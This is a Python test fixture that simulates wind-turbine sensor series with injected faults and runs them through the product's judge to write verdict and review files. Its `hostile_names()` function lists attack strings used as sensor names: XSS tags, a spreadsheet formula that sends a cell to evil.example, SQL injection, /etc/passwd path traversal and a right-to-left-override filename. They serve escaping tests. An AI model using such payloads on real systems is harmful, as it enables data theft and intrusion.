"""A small wind farm to test with: series, faults and real verdicts, written as the runtime would.

Not a stand-in: ranks, bands and context come from the product's own judge. Only the score is made
up (distance from the recent mean over all channels), and the faults are put in by hand.
"""

from __future__ import annotations

from dataclasses import dataclass
from pathlib import Path

import numpy as np

from rejex_stream.encode import encode_review, encode_verdict
from rejex_stream.rejection.judge import Judge
from rejex_stream.rejection.policy import RejectionPolicy
from rejex_stream.run.review_items import AuditDraw, ReviewItems
from rejex_stream.types import Label, Position, Reading, ReviewItem, Verdict

CHANNELS = ("gearbox_temp", "vibration", "power", "rotor_speed")
SENSORS = ("T01/nacelle", "T02/nacelle", "T03/nacelle", "T07/nacelle", "PIPE3/leak", "HUB/main")


@dataclass(frozen=True)
class Farm:
    verdicts: list[Verdict]
    items: list[ReviewItem]

    def write(self, folder: Path) -> tuple[Path, Path]:
        verdicts, review = folder / "verdicts.jsonl", folder / "review.jsonl"
        verdicts.write_bytes(b"".join(encode_verdict(v) + b"\n" for v in self.verdicts))
        review.write_bytes(b"".join(encode_review(i) + b"\n" for i in self.items))
        return verdicts, review


def _smooth(rng: np.random.Generator, n: int, phi: float) -> np.ndarray:
    noise = rng.normal(0, np.sqrt(1 - phi * phi), n)
    out = np.empty(n)
    last = 0.0
    for i, step in enumerate(noise):
        last = phi * last + step
        out[i] = last
    return out


def sensor_table(sensor: str, events: int, seed: int, every_s: int) -> np.ndarray:
    """Shape (events, 4): temperature, vibration, power, rotor speed of one turbine."""
    rng = np.random.default_rng([seed, sum(sensor.encode())])
    t = np.arange(events) * every_s
    wind = 8 + 2.5 * np.sin(2 * np.pi * t / 86_400) + 1.2 * _smooth(rng, events, 0.995)
    wind = np.clip(wind, 2.5, 14)
    power = 2000 * np.clip((wind / 12) ** 3, 0, 1) + rng.normal(0, 15, events)
    speed = np.clip(5 + wind, 5, 17) + rng.normal(0, 0.15, events)
    temp = 48 + power / 160 + 1.1 * _smooth(rng, events, 0.99) + rng.normal(0, 0.2, events)
    vibration = 0.35 + power / 9000 + np.abs(rng.normal(0, 0.05, events))
    if sensor.startswith("T07"):  # a bearing that warms up and shakes
        for start in (int(0.55 * events), int(0.8 * events)):
            length = 70
            rise = np.hanning(2 * length)[: 2 * length]
            stop = min(events, start + 2 * length)
            temp[start:stop] += 9 * rise[: stop - start]
            vibration[start:stop] += 0.5 * rise[: stop - start]
    if sensor.startswith("T02"):  # single spikes
        vibration[rng.integers(events // 2, events, 6)] += 1.2
    if sensor.startswith("PIPE3"):  # a stuck channel for a while
        start = int(0.7 * events)
        speed[start : start + 60] = speed[start]
    return np.column_stack([temp, vibration, power, speed])


def simulate(
    *, events: int = 2400, window: int = 500, contamination: float = 0.04, tolerance: float = 8.0,
    every_s: int = 10, seed: int = 7, start_ms: int = 1_760_000_000_000,
    sensors: tuple[str, ...] = SENSORS, audit_rate: float = 0.004, context: int = 40,
) -> Farm:  # fmt: skip
    """Run the farm; equal arguments give equal verdicts."""
    policy = RejectionPolicy(contamination=contamination, tolerance=tolerance)
    verdicts: list[Verdict] = []
    items: list[ReviewItem] = []
    for partition, sensor in enumerate(sensors):
        table = sensor_table(sensor, events, seed, every_s)
        middle, scale = table[:window].mean(axis=0), table[:window].std(axis=0)
        drift = np.cumsum(table, axis=0)
        recent = (drift[60:] - drift[:-60]) / 60
        expected = np.vstack([np.tile(middle, (60, 1)), recent])
        scores = np.sqrt((((table - expected) / scale) ** 2).mean(axis=1))
        judge = Judge(policy, window)
        judge.replace_window(scores[:window].tolist())
        review = ReviewItems(CHANNELS, points=context, audit=AuditDraw(audit_rate))
        key = sensor
        for i in range(window, events):
            reading = Reading(
                key, sensor, start_ms + i * every_s * 1000, tuple(float(v) for v in table[i]),
                Position("turbines", partition, i),
            )  # fmt: skip
            out: list[Verdict | None] = [None]
            epoch = 0 if i < events * 0.75 else 1
            judge.judge([reading], [0], [float(scores[i])], out, seq=i - window, epoch=epoch)
            judge.window.push(float(scores[i])) if False else None
            verdict = out[0]
            assert verdict is not None
            verdicts.append(verdict)
            made = review.observe(reading, verdict)
            item = made if isinstance(made, ReviewItem) else None  # not what came after one
            if item is not None:
                items.append(item)
    order = lambda v: (v.event_time_ms, v.position)  # noqa: E731
    verdicts.sort(key=order)
    items.sort(key=lambda item: order(item.verdict))
    return Farm(verdicts, items)


def hostile_names() -> tuple[str, ...]:
    return (
        "<img src=x onerror=alert(1)>", "</script><script>alert(2)</script>",
        '=HYPERLINK("http://evil.example/?"&A1)', "' OR 1=1; --", "T07/../../etc/passwd",
        "\u202egnp.exe", "a" * 400,
    )  # fmt: skip


def mix(farm: Farm) -> dict[str, int]:
    return {str(label): sum(v.label is label for v in farm.verdicts) for label in Label}
